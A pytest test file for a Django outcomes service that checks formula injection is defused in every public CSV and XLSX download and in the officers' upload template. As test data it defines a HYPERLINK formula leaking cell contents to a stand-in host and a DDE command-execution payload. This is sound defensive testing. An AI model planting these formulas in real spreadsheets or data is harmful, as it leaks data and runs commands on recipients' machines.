"""Formula injection (issue 14, finding 2): text an officer or an admin typed that a spreadsheet
would run comes out of every download as text, never as a formula.

The attack: notes and a source that are formulas, entered, submitted and approved through the
services, then fetched through every real download (measure, outcome and place pages, the API's
CSV and XLSX, the officers' template), and an admin's measure definition in the "About" sheet.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import csv_text, neutralise, xlsx_value
from outcomes.models import Measure
from outcomes.services.review import proposal_approve
from tests.outcomes.workflow_helpers import new_value

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-1+1"
ATTACKS = [HYPERLINK, DDE, AT, MINUS]


@pytest.fixture
def attacked(officer_doncaster, officer_barnsley, approver):
    """Published values whose note or source is a formula; a measure whose definition is one."""
    for officer, place, year, extra in [
        (officer_doncaster, "doncaster", 2024, {"note": HYPERLINK, "source": DDE}),
        (officer_doncaster, "doncaster", 2025, {"note": MINUS}),
        (officer_barnsley, "barnsley", 2024, {"note": AT}),
    ]:
        value = new_value(officer, place=place, year=year, submit=True, **extra)
        proposal_approve(user=approver, value=value, expected_version=value.version)
    Measure.objects.filter(slug="employment-rate").update(definition=HYPERLINK)
    cache.clear()
    yield Measure.objects.get(slug="employment-rate")
    cache.clear()


def _content(response) -> bytes:
    if isinstance(response, bytes):
        return response
    assert response.status_code == 200
    return response.getvalue()


def csv_cells(response) -> list[str]:
    text = _content(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(_content(response)))  # not read-only: sees formulas
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    return [c.value for c in cells]


def assert_defused(cells: list, attacks: list[str]) -> None:
    for attack in attacks:
        assert attack not in cells, f"{attack} is live"
        assert "'" + attack in cells, f"{attack} is missing"


def download_urls(measure: Measure, fmt: str) -> dict[str, str]:
    return {
        "measure": reverse("outcomes:measure-download", args=[measure.slug, fmt]),
        "outcome": reverse("outcomes:outcome-download", args=[measure.outcome.slug, fmt]),
        "place": reverse("places:download", args=["doncaster", fmt]),
        "api": f"/api/v1/values.{fmt}?measure={measure.slug}",
    }


def test_every_public_csv_writes_formulas_as_text(client, attacked):
    for name, url in download_urls(attacked, "csv").items():
        cells = csv_cells(client.get(url))
        # The outcome and place pages show each series' latest years (2025 for Doncaster).
        assert_defused(cells, [MINUS] if name in ("outcome", "place") else ATTACKS)


def test_every_public_xlsx_writes_formulas_as_text_and_so_does_the_about_sheet(client, attacked):
    for name, url in download_urls(attacked, "xlsx").items():
        cells = xlsx_cells(client.get(url))
        assert_defused(cells, [MINUS] if name in ("outcome", "place") else ATTACKS)
        if name != "api":
            assert "'" + HYPERLINK in cells  # the measure's definition on the About sheet


def test_negative_numbers_stay_numbers():
    """Only text is touched: a negative figure is data, not a formula."""
    assert csv_text(Decimal("-1.5")) == "-1.5" and xlsx_value(Decimal("-1.5")) == -1.5
    assert csv_text(Decimal("1E+2")) == "100"


def test_the_officers_template_is_formula_safe_and_uploads_back_unchanged(
    officer_doncaster, approver, client
):
    value = new_value(officer_doncaster, year=2024, note=HYPERLINK, source=DDE, submit=True)
    proposal_approve(user=approver, value=value, expected_version=value.version)
    client.force_login(officer_doncaster)
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("manage:upload_template"), {"format": fmt})
        content = response.getvalue()  # a streamed response is read once
        cells = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
        assert_defused(cells, [HYPERLINK, DDE])
        upload = SimpleUploadedFile(f"values.{fmt}", content)
        back = client.post(reverse("manage:upload"), {"file": upload})
        assert back.status_code == 302, fmt
        preview = client.get(back["Location"])
        assert preview.context["counts"]["changed"] == 0, fmt  # the note reads back as entered


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-x", "@A1", "\t=1", "\r=1", "\n=1", "＝1+1", "＠A1"]
)
def test_the_owasp_rule_covers_every_starting_character(text):
    assert neutralise(text) == "'" + text
    assert neutralise("a " + text) == "a " + text
